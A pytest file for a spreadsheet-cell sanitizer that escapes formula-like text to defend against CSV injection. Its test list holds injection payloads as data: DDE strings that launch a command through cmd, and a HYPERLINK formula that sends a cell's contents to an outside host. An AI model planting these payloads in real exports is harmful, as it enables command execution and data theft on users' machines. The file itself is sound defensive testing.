from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from healing_desktop.exchange.spreadsheet_cells import safe, unsafe

# As told by those who warn of it (CSV injection).
INJECTED = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1)', "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "+32 12 34 56 78",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTED)
def test_no_cell_begins_as_a_formula(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Rouw", "'s Avonds", "012 34 56 78", "a=b"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert safe(text) == text


@given(st.text() | st.sampled_from(INJECTED) | st.from_regex("'*[=+@-].*"))
def test_it_comes_back_as_it_was(text: str) -> None:
    assert unsafe(safe(text)) == text
